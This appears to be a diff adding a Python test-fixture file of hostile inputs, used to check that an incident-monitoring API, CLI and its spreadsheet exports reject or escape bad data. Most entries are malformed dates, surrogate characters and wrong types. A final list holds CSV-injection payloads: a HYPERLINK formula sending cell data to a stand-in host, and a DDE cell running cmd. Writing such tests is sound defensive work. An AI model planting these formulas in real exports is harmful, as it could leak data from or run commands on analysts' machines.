@@ -1,0 +1,212 @@
+"""Hostile inputs, one named case each: what an attacker (or a broken device) sends.
+
+Every bug found with a hostile input adds its input here; the tests in this folder send each case
+through the public paths (API, CLI) and require a 4xx or a per-record rejection naming the field,
+never a 500, a traceback or a lost neighbour. The schemathesis run uses them as explicit examples.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Any
+
+__all__ = [
+    "BAD_DETECTIONS",
+    "BAD_RECORDS",
+    "BAD_REQUESTS",
+    "BAD_SENSORS",
+    "BadRecord",
+    "BadRequest",
+    "good_record",
+]
+
+
+def good_record(rid: str, **extra: Any) -> dict[str, Any]:
+    """A valid incident in the test agreement's buffer zone (made here, not by the simulator)."""
+    return {
+        "id": rid,
+        "observed_at": "2025-03-01T10:00:00Z",
+        "lon": 36.95,
+        "lat": 48.6,
+        "kind": "armed_personnel",
+        "source_type": "patrol",
+        "uncertainty_m": 50,
+        **extra,
+    }
+
+
+@dataclass(frozen=True)
+class BadRecord:
+    """One poison incident record: ``changes`` applied to a good one; ``field`` the one at fault."""
+
+    name: str
+    changes: dict[str, Any]
+    field: str
+
+    def record(self, rid: str) -> dict[str, Any]:
+        return {**good_record(rid), **self.changes}
+
+
+BAD_RECORDS = [
+    BadRecord("year-1", {"observed_at": "0001-01-01T00:00:00Z"}, "observed_at"),
+    BadRecord("year-1-offset", {"observed_at": "0001-01-01T00:00:00+01:00"}, "observed_at"),
+    BadRecord("year-9999", {"observed_at": "9999-12-31T23:59:59Z"}, "observed_at"),
+    BadRecord("year-9999-offset", {"observed_at": "9999-12-31T23:00:00-02:00"}, "observed_at"),
+    BadRecord("before-1900", {"observed_at": "1899-12-31T23:59:59Z"}, "observed_at"),
+    BadRecord("year-2100", {"observed_at": "2100-01-01T00:00:00Z"}, "observed_at"),
+    BadRecord("surrogate-id", {"id": "\ud800x"}, "id"),
+    BadRecord("low-surrogate-id", {"id": "x\udfff"}, "id"),
+    BadRecord("surrogate-narrative", {"narrative": "fire \udc80 at dawn"}, "narrative"),
+    BadRecord("surrogate-party", {"party": "\ud83d"}, "party"),
+    BadRecord("surrogate-weapon", {"weapon_class": "art\udbff"}, "weapon_class"),
+    BadRecord("surrogate-kind", {"kind": "\ud800"}, "kind"),
+    BadRecord("surrogate-key", {"\ud800": 1}, "\\ud800"),
+    BadRecord("nul-id", {"id": "a\x00b"}, "id"),
+    BadRecord("lon-true", {"lon": True}, "lon"),
+    BadRecord("lat-false", {"lat": False}, "lat"),
+    BadRecord("count-true", {"count": True}, "count"),
+    BadRecord("uncertainty-true", {"uncertainty_m": True}, "uncertainty_m"),
+    BadRecord("lon-object", {"lon": {"deg": 36}}, "lon"),
+    BadRecord("lon-huge", {"lon": 1e308}, "lon"),
+    BadRecord("count-huge", {"count": 10**30}, "count"),
+    BadRecord("id-huge", {"id": "x" * 100_000}, "id"),
+]
+
+
+@dataclass(frozen=True)
+class BadRequest:
+    """A request with one hostile parameter: answered 4xx naming ``field``, never 500."""
+
+    name: str
+    method: str
+    path: str  # under /api/v1, or /ogc/...; already percent-encoded
+    field: str
+    body: Any = None
+    role: str = "admin"
+
+
+_OGC_TIMES = [
+    "9999-12-31",
+    "9999-12-31T23:59:59Z",
+    "9999-12-31T23:59:59.999999Z",
+    "9999-12-31T23:00:00-01:00",
+    "9999-12-31/..",
+    "../9999-12-31",
+    "9999-12-31T23:59:59Z/..",
+    "../9999-12-31T23:59:59Z",
+    "2025-01-01/9999-12-31",
+    "0001-01-01",
+    "0001-01-01T00:00:00Z",
+    "0001-01-01T00:00:00%2B01:00",
+    "0001-01-01/..",
+    "../0001-01-01",
+    "0001-01-01/9999-12-31",
+    "0001-01-01T00:00:00%2B01:00/2025-01-01T00:00:00Z",
+]
+_QUERY_TIMES = [
+    "0001-01-01T00:00:00%2B01:00",
+    "0001-01-01T00:00:00Z",
+    "9999-12-31T23:59:59Z",
+    "9999-12-31T23:59:59-01:00",
+]
+
+TOKENS = "/api/v1/tokens"
+BAD_REQUESTS = [
+    *(
+        BadRequest(
+            f"ogc-{c}-datetime-{t}", "GET", f"/ogc/collections/{c}/items?datetime={t}", "datetime"
+        )
+        for c in ("incidents", "findings", "zones")
+        for t in _OGC_TIMES
+    ),
+    *(
+        BadRequest(f"{p}-{k}-{t}", "GET", f"/api/v1/{p}?{k}={t}", k)
+        for p in ("incidents", "detections")
+        for k in ("start", "end")
+        for t in _QUERY_TIMES
+    ),
+    *(
+        BadRequest(f"ogc-{c}-feature-{fid}", "GET", f"/ogc/collections/{c}/items/{fid}", "featureId")
+        for c in ("incidents", "findings")
+        for fid in ("²", "1²", "٣", "𝟙", "9" * 5000)
+    ),
+    BadRequest(
+        "review-comment-surrogate",
+        "POST",
+        "/api/v1/incidents/1/review",
+        "comment",
+        {"action": "verify", "comment": "ok \ud800"},
+    ),
+    BadRequest(
+        "token-name-surrogate", "POST", "/api/v1/tokens", "name", {"role": "sensor", "name": "\ud800"}
+    ),
+    BadRequest(
+        "token-party-surrogate",
+        "POST",
+        "/api/v1/tokens",
+        "party",
+        {"role": "liaison", "name": "x", "party": "\udc00"},
+    ),
+    BadRequest(
+        "token-surrogate-key", "POST", "/api/v1/tokens", "\\ud800", {"role": "sensor", "\ud800": 1}
+    ),
+    BadRequest(
+        "locate-year-9999",
+        "POST",
+        "/api/v1/acoustic/locate",
+        "start",
+        {"start": "9999-12-30T00:00:00Z", "end": "9999-12-31T23:59:59Z"},
+    ),
+    BadRequest(
+        "locate-year-1-offset",
+        "POST",
+        "/api/v1/acoustic/locate",
+        "start",
+        {"start": "0001-01-01T00:00:00+01:00", "end": "0001-01-02T00:00:00Z"},
+    ),
+    BadRequest(
+        "locate-temperature-true",
+        "POST",
+        "/api/v1/acoustic/locate",
+        "temperature_c",
+        {"start": "2025-03-01T00:00:00Z", "end": "2025-03-02T00:00:00Z", "temperature_c": True},
+    ),
+    BadRequest(
+        "incident-lon-true", "POST", "/api/v1/incidents", "lon", {**good_record("t"), "lon": True}
+    ),
+]
+
+#: Sensor records, each bad in one field (sent beside a good one, which must still be stored).
+BAD_SENSORS: list[tuple[str, dict[str, Any], str]] = [
+    ("surrogate-id", {"id": "S\ud800", "lon": 36.9, "lat": 48.6}, "id"),
+    ("surrogate-network", {"id": "S-net", "network": "\udfff", "lon": 36.9, "lat": 48.6}, "network"),
+    ("lon-true", {"id": "S-bool", "lon": True, "lat": 48.6}, "lon"),
+    ("retired-9999", {"id": "S-r", "lon": 36.9, "lat": 48.6, "retired_at": "9999-12-31T23:59:59-01:00"},
+     "retired_at"),
+    ("retired-year-1", {"id": "S-r1", "lon": 36.9, "lat": 48.6, "retired_at": "0001-01-01T00:00:00Z"},
+     "retired_at"),
+]  # fmt: skip
+
+#: Detection records at the sensor "S1", each bad in one field.
+BAD_DETECTIONS: list[tuple[str, dict[str, Any], str]] = [
+    ("arrival-9999", {"detection_id": "d9", "arrival_time": "9999-12-31T23:59:59Z"}, "arrival_time"),
+    ("arrival-9999-offset", {"detection_id": "d9o", "arrival_time": "9999-12-31T23:59:59-01:00"},
+     "arrival_time"),
+    ("arrival-year-1", {"detection_id": "d1", "arrival_time": "0001-01-01T00:00:00Z"}, "arrival_time"),
+    ("arrival-year-1-offset", {"detection_id": "d1o", "arrival_time": "0001-01-01T00:00:00+01:00"},
+     "arrival_time"),
+    ("surrogate-sensor", {"sensor_id": "S\ud800", "detection_id": "ds"}, "sensor_id"),
+    ("surrogate-detection-id", {"detection_id": "d\udc00"}, "detection_id"),
+    ("amplitude-true", {"detection_id": "da", "amplitude_db": True}, "amplitude_db"),
+]  # fmt: skip
+
+#: Text a sensor may plant to run in an analyst's spreadsheet (OWASP CSV injection), and how each
+#: cell must read in an export (a leading ' makes it text).
+FORMULA_CELLS = [
+    ('=HYPERLINK("http://x.invalid/?"&A1,"click")', '\'=HYPERLINK("http://x.invalid/?"&A1,"click")'),
+    ("+1+1", "'+1+1"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1,2)", "'@SUM(1,2)"),
+    ("=1+1\t", "'=1+1"),  # the model strips surrounding white space
+    ("plain text", "plain text"),
+]
